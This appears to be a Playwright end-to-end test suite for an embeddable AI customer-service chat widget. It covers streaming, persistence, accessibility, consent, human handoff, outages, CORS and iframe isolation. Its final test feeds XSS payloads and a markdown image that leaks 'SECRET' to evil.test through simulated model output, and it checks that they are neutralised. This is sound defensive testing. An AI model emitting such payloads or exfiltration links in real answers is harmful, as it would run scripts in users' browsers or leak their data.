// An agent on a customer's site: another origin, a strict policy, phones and keyboards, and everything that can break.
import { audit, expect } from "./fixtures";
import { Chat, makeAgent, test } from "./site";

const ANSWER = "Voici l’avis du modèle local";

test("a visitor opens the chat, is answered bit by bit, and finds it again after a reload and in another tab", async ({
  app,
  site,
  page,
  request,
  trouble,
}) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key });
  const asked: string[] = [];
  page.on("request", (it) => asked.push(it.url()));
  await page.goto(site.url);
  const chat = new Chat(page);
  await expect(chat.launcher()).toBeVisible();
  // Nothing is stored and nothing but the one line is asked for before somebody reaches for the button.
  expect(asked.filter((url) => url.startsWith(app.url))).toEqual([`${app.url}/widget.js`]);
  expect(await page.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie])).toEqual([
    0,
    0,
    "",
  ]);
  await audit(page);

  await chat.launcher().click();
  await expect(chat.panel).toContainText("Bonjour, je suis Camille");
  await expect(chat.field()).toBeFocused();
  await audit(page);
  await chat.say("Quel délai ?");
  await expect(chat.log()).toContainText(ANSWER);
  await expect(chat.log().locator("strong")).toHaveText("modèle local");
  await expect(chat.panel.getByRole("button", { name: "Utile", exact: true })).toBeVisible();
  await audit(page);

  await page.reload();
  await expect(chat.log()).toContainText("Quel délai ?");
  await expect(chat.log()).toContainText(ANSWER);
  const other = await page.context().newPage();
  await trouble.watch(other);
  await other.goto(site.url);
  const second = new Chat(other);
  await second.launcher().click();
  await expect(second.log()).toContainText("Quel délai ?");
  await second.say("Et le prix ?");
  await expect(second.log().locator(".m.agent")).toHaveCount(4);
  // What is said in one tab is there in the other.
  await expect(chat.log()).toContainText("Et le prix ?");
});

test("an answer is stopped, and one that is being written survives a reload", async ({
  app,
  site,
  page,
  request,
  provider,
}) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key });
  await provider.plan({ delay_ms: 20, hold_at: 0.4 });
  await page.goto(site.url);
  const chat = new Chat(page);
  await chat.launcher().click();
  await chat.say("Raconte");
  await expect(chat.log()).toContainText("Voici");
  await page.reload();
  await expect(chat.log()).toContainText("Voici");
  await provider.plan({ hold_at: null });
  await expect(chat.log()).toContainText("trente minutes");
  await expect(chat.log().locator(".m.agent")).toHaveCount(3);

  await provider.plan({ hold_at: 0.3 });
  await chat.say("Encore");
  await expect(chat.log().locator(".m.agent").last()).toContainText("Voici");
  await chat.panel.getByRole("button", { name: "Arrêter la réponse" }).click();
  await expect(chat.log()).toContainText("Réponse interrompue");
  await expect(chat.panel.getByRole("button", { name: "Envoyer" })).toBeVisible();
});

test("keys alone: the focus stays inside, Escape gives it back", async ({ app, site, page, request }) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key, lang: "en" });
  await page.goto(site.url);
  const chat = new Chat(page);
  await chat.launcher("Open the assistant").focus();
  await page.keyboard.press("Enter");
  const field = chat.field("Your message");
  await expect(field).toBeFocused();
  await expect(chat.panel).toContainText("Hello, I am Camille");
  await page.keyboard.type("What about prices?");
  await page.keyboard.press("Enter");
  await expect(chat.log()).toContainText("What about prices?");
  await expect(chat.panel.getByRole("button", { name: "Helpful", exact: true })).toBeVisible();
  const inside = () => page.evaluate(() => document.activeElement?.tagName);
  for (let n = 0; n < 12; n++) {
    await page.keyboard.press("Tab");
    expect(await inside()).toBe("HERAUT-CHAT");
  }
  for (let n = 0; n < 12; n++) {
    await page.keyboard.press("Shift+Tab");
    expect(await inside()).toBe("HERAUT-CHAT");
  }
  await chat.panel.getByRole("button", { name: "More actions" }).focus();
  await page.keyboard.press("Enter");
  await expect(chat.panel.getByRole("menuitem", { name: "Talk to a person" })).toBeFocused();
  await page.keyboard.press("ArrowDown");
  await expect(chat.panel.getByRole("menuitem", { name: "Leave my details" })).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(chat.panel.getByRole("menu")).toBeHidden();
  await page.keyboard.press("Escape");
  await expect(chat.panel).toBeHidden();
  await expect(chat.launcher("Open the assistant")).toBeFocused();
});

test("an address is left with consent, a person takes over, and everything is taken back", async ({
  app,
  site,
  page,
  request,
}) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key });
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto(site.url);
  const chat = new Chat(page);
  await chat.launcher().click();
  expect(await chat.panel.boundingBox()).toEqual({ x: 0, y: 0, width: 360, height: 740 });
  await chat.say("Bonjour, un devis ?");
  await expect(chat.log()).toContainText(ANSWER);
  const menu = async (name: string) => {
    await chat.panel.getByRole("button", { name: "Plus d’actions" }).click();
    await chat.panel.getByRole("menuitem", { name }).click();
  };
  await menu("Laisser mes coordonnées");
  await audit(page);
  await chat.panel.getByLabel("Adresse e-mail").fill("ana@exemple.fr");
  await chat.panel.getByRole("checkbox").check();
  await chat.panel.getByRole("button", { name: "Envoyer" }).click();
  await expect(chat.panel).toContainText("l’équipe vous répondra à cette adresse");
  await menu("Parler à une personne");
  await expect(chat.panel).toContainText("Demande transmise");
  const { items } = (await (await request.get(`${app.url}/api/conversations`)).json()) as {
    items: { id: string; state: string }[];
  };
  expect(items[0]?.state).toBe("waiting");
  await request.post(`${app.url}/api/conversations/${items[0]?.id}/messages`, {
    data: { content: "Ici Ana, bonjour !" },
  });
  await expect(chat.log()).toContainText("Ici Ana, bonjour !");
  await expect(chat.panel).toContainText("Une personne de l’équipe répond");
  const file = page.waitForEvent("download");
  await menu("Télécharger la conversation");
  expect((await file).suggestedFilename()).toBe("conversation.txt");
  await menu("Supprimer mes données");
  await chat.panel.getByRole("button", { name: "Tout supprimer" }).click();
  await expect(chat.panel).toContainText("Vos données sont supprimées");
  const left = (await (await request.get(`${app.url}/api/leads`)).json()) as { items: object[] };
  expect(left.items).toEqual([]);
  expect(await page.evaluate(() => localStorage.length)).toBe(0);
});

test("the provider is down: a prepared answer and a form; the server is down: the message is kept and leaves later", async ({
  app,
  site,
  page,
  request,
  provider,
  trouble,
}) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key });
  await provider.plan({ mode: "fail" });
  await page.goto(site.url);
  const chat = new Chat(page);
  await chat.launcher().click();
  await chat.say("Quel délai ?");
  // What was answered stays to be read; an address is asked for beside it.
  await expect(chat.log()).toContainText("Je ne sais pas répondre à cette question");
  await chat.panel.getByRole("button", { name: "Laisser mes coordonnées" }).click();
  await expect(chat.panel.getByRole("heading", { name: "Une personne vous répond" })).toBeVisible();
  await audit(page);
  await page.keyboard.press("Escape");
  await expect(chat.log()).toContainText("Réponse préparée, sans modèle");
  await provider.plan({ mode: "ok" });

  trouble.expect(/ERR_CONNECTION_REFUSED|Failed to fetch|net::ERR/);
  await app.kill();
  await chat.say("Vous êtes là ?");
  await expect(chat.panel).toContainText("Le service ne répond pas");
  await expect(chat.log()).toContainText("sera envoyé dès que la connexion revient");
  await app.restart();
  await expect(chat.log()).not.toContainText("sera envoyé dès que la connexion revient", { timeout: 60_000 });
  await expect(chat.log().locator(".m.visitor")).toHaveCount(2);
  await expect(chat.panel).not.toContainText("Le service ne répond pas");
});

test("a page of another origin is refused, and says so", async ({ app, site, page, request, trouble }) => {
  const agent = await makeAgent(request, app.url, { origins: ["https://exemple.fr"] });
  site.shows(app.url, { key: agent.key });
  trouble.expect(/CORS policy|status of 403|Failed to load resource/);
  await page.goto(site.url);
  const chat = new Chat(page);
  await chat.launcher().click();
  await expect(chat.panel).toContainText("Le service ne répond pas");
  const { items } = (await (await request.get(`${app.url}/api/conversations`)).json()) as { items: object[] };
  expect(items).toEqual([]);
});

test("in a frame, the scripts of the page cannot reach the chat", async ({ app, site, page, request }) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key, mode: "frame" });
  await page.goto(site.url);
  await new Chat(page).launcher().click();
  const inside = page.frameLocator("iframe");
  await expect(inside.getByRole("dialog")).toContainText("Bonjour, je suis Camille");
  await inside.getByRole("textbox", { name: "Votre message" }).fill("Bonjour");
  await inside.getByRole("textbox", { name: "Votre message" }).press("Enter");
  await expect(inside.getByRole("log")).toContainText(ANSWER);
  expect(
    await page.evaluate(
      () => document.querySelector("heraut-chat")?.shadowRoot?.querySelector("iframe")?.contentDocument,
    ),
  ).toBeNull();
  await inside.getByRole("textbox", { name: "Votre message" }).press("Escape");
  await expect(page.locator("iframe")).toBeHidden();
  await expect(new Chat(page).launcher()).toBeFocused();
});

test("what a model is made to write does not live in the page", async ({
  app,
  site,
  page,
  request,
  provider,
}) => {
  const agent = await makeAgent(request, app.url, { origins: [site.url] });
  site.shows(app.url, { key: agent.key });
  await provider.plan({
    text: [
      "[clic](javascript:alert(1)) [d](data:text/html,<b>x</b>) <img src=x onerror=alert(1)>",
      "<script>alert(1)</script> ![](https://evil.test/?q=SECRET) [ok](https://exemple.fr/)",
      "<iframe src=https://evil.test></iframe><form action=https://evil.test><input></form>",
    ].join("\n\n"),
  });
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  await page.goto(site.url);
  const chat = new Chat(page);
  await chat.launcher().click();
  await chat.say("Piège");
  await expect(chat.log().getByRole("link", { name: "ok" })).toHaveAttribute("href", "https://exemple.fr/");
  // What is shown as an address is one that a reader may follow, and nothing was fetched from it.
  for (const link of await chat.log().getByRole("link").all()) {
    expect(await link.getAttribute("href")).toMatch(/^https:\/\//);
  }
  await expect(chat.log().locator("img,script,iframe,.b form,.b input")).toHaveCount(0);
  expect(dialogs).toBe(0);
});
